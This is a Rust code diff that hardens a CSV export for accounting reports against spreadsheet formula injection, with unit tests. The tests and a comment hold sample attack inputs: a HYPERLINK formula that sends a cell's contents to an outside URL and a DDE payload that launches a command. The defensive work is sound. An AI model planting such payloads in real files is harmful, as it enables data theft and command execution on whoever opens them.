@@ -344,12 +344,12 @@ pub fn csv(headers: &[&str], rows: &[Vec<String>], amounts: &[usize]) -> String 
 pub fn csv_head(headers: &[&str]) -> String {
     let mut writer = csv::Writer::from_writer(Vec::new());
     // Writing to a Vec cannot fail.
-    let _ = writer.write_record(headers);
+    let _ = writer.write_record(headers.iter().map(|header| inert_cell(header).into_owned()));
     format!("\u{feff}{}", String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default())
 }
 
 /// CSV rows after `csv_head`, amounts written as `csv` writes them (a long report is written a
-/// few rows at a time).
+/// few rows at a time); every other cell as `inert_cell` makes it.
 pub fn csv_rows(rows: &[Vec<String>], amounts: &[usize]) -> String {
     let raw = RAW_AMOUNTS.load(Ordering::Relaxed);
     let mut writer = csv::Writer::from_writer(Vec::new());
@@ -362,11 +362,28 @@ pub fn csv_rows(rows: &[Vec<String>], amounts: &[usize]) -> String {
                     amount.grouped()
                 }
             }
-            _ => cell.clone(),
+            _ => inert_cell(cell).into_owned(),
         });
         let _ = writer.write_record(cells);
     }
     String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default()
+}
+
+/// A CSV cell that a spreadsheet shows as the text it is. Excel and WPS read a cell beginning with
+/// `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a summary such as
+/// `=HYPERLINK("http://…"&A1)` or a DDE call, put in a voucher or a bank statement by anyone who
+/// can write one, would run on the desk of whoever opens the export. Such a cell gets a leading
+/// apostrophe (OWASP's advice for CSV injection), shown by the spreadsheet as a quote mark
+/// before the text; a number (`-1,234.56`, `-3`) is left as it is, which the spreadsheet reads
+/// as the number. The stored text is unchanged: JSON, tables and xlsx (whose cells are typed
+/// strings, never formulas) show it exactly.
+pub fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    let starts_a_formula = matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'));
+    if starts_a_formula && crate::money::Money::parse(cell).is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// Pretty JSON with a trailing newline.
@@ -510,5 +527,25 @@ mod chunked_tests {
                 None => assert!(!short, "{sizes:?} is short"),
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod csv_tests {
+    use super::*;
+
+    /// What a spreadsheet would run as a formula is written as text; numbers and ordinary text
+    /// are written as they are.
+    #[test]
+    fn a_cell_that_would_be_a_formula_is_written_as_text() {
+        for formula in ["=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]
+        {
+            assert_eq!(inert_cell(formula), format!("'{formula}"), "{formula:?}");
+        }
+        for plain in ["-1,234.56", "-3", "-0.05", "支付住院统筹", "记-2023-01-0001", "", "1+1", "'=already"] {
+            assert_eq!(inert_cell(plain), plain, "{plain:?}");
+        }
+        let text = csv(&["摘要", "金额"], &[vec!["=cmd|' /C calc'!A0".into(), "-1234.5".into()]], &[1]);
+        assert_eq!(text, "\u{feff}摘要,金额\n'=cmd|' /C calc'!A0,\"-1,234.50\"\n");
     }
 }
